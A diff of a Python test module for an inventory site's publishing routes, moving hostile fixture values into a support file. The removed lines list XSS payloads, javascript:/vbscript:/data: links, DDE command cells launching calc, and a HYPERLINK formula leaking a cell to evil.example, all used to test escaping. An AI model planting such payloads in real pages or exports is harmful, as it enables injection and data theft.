@@ -3,7 +3,7 @@ or mailto: is shown as text, never followed; markup in any text is shown as text
 cell never starts a spreadsheet formula; inventory.json keeps every value as stored.
 
 The values are written straight into the store, past the loader's checks, because the
-pages must defend themselves whatever the store holds."""
+pages must defend themselves whatever the store holds (see `hostile_store`)."""
 
 from __future__ import annotations
 
@@ -11,8 +11,6 @@ import csv
 import io
 import json
 from html.parser import HTMLParser
-from pathlib import Path
-from typing import Any
 from urllib.parse import urlsplit
 
 import pytest
@@ -21,56 +19,9 @@ from starlette.testclient import TestClient
 
 from api.inventory import build_site
 from api.inventory.routes import make_routes
-from catalog.records import EdgeRecord, NodeRecord
-from catalog.vocab import Label, RelType
 from graph.embedded.store import EmbeddedStore
-from graph.loading import load_paths
 
-from .conftest import DATA
-from .publish_support import AS_OF, NOW, links, readable, row_texts
-
-MARKUP = "Riverside <script>alert(1)</script> \"q\" 'a' & \"><img src=x onerror=alert(1)>"
-CONTACT = "Office \"><svg onload=alert(2)> </p><script>alert(3)</script>"
-LINKS = {  # node id -> (property, a link no page may follow)
-    "district": ("contact_url", "javascript:alert('contact')"),
-    "acme-learning": ("url", "JaVaScRiPt:alert('acme')"),
-    "dpa-acme": ("public_url", "data:text/html,<script>alert('dpa')</script>"),
-    "yearbook-release": ("form_url", " javascript:alert('consent')"),
-    "state-reporting": ("url", "vbscript:msgbox('law')"),
-    "privacy-policy": ("url", "java\tscript:alert('policy')"),
-}
-GOOD_LINK = "https://state.example/education"
-# (id, name, definition): cells a spreadsheet would run, or that carry control characters.
-FORMULAS = [
-    ("formula-sum", "=1+2", "@SUM(1+1)*cmd|' /C calc'!A0"),
-    ("formula-link", '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")', "+1 more"),
-    ("formula-minus", "-2+3", "\t=cmd|' /C notepad'!A0"),
-    ("formula-cr", "\r=1+1", "plain words"),
-    ("controls", "Bidi \u202eevil\u202c name", "NUL\x00 ESC\x1b[31m red\nsecond line"),
-]
-
-
-def hostile_store(folder: Path) -> EmbeddedStore:
-    store = EmbeddedStore(folder)
-    load_paths(store, [DATA / "design-example.yaml"], now=NOW)
-    changed: dict[str, dict[str, Any]] = {node_id: {prop: link} for node_id, (prop, link) in LINKS.items()}
-    changed["district"].update(name=MARKUP, contact_name=CONTACT, description=MARKUP)
-    changed["acme-learning"]["description"] = MARKUP
-    changed["state-ed"] = {"url": GOOD_LINK}
-    changed["student-birth-date"] = {"name": MARKUP, "definition": MARKUP, "standard_ref": "\"'><b>ref</b>"}
-    changed["enrollment"] = {"name": f"Enrollment {MARKUP}"}
-    with store.transaction() as tx:
-        for node_id, props in changed.items():
-            node = store.get_node(node_id)
-            assert node is not None, node_id
-            tx.upsert_node(NodeRecord(node.label, node.id, {**node.props, **props}))
-        # The consent becomes a basis of a flow, so that its link is published too.
-        tx.upsert_edge(EdgeRecord(RelType.UNDER, "sis-to-acme", "yearbook-release"))
-        for element_id, name, definition in FORMULAS:
-            tx.upsert_node(NodeRecord(Label.DATA_ELEMENT, element_id, {
-                "name": name, "definition": definition, "category": "derived", "sensitivity": "AGGREGATE",
-                "subject": "STUDENT", "public": True, "standard_ref": "=2*3", "updated_at": NOW}))
-    return store
+from .publish_support import AS_OF, CONTACT, FORMULAS, GOOD_LINK, MARKUP, hostile_store, links, readable, row_texts
 
 
 @pytest.fixture(scope="module")
